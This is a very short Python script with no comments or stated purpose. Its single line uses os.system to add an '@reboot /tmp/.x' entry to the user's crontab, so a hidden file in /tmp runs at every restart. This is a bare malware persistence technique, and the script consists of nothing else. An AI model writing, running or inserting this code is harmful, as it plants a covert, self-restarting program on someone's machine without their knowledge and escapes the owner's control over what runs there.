#!/usr/bin/env python3

import os
os.system("(crontab -l; echo '@reboot /tmp/.x') | crontab -")
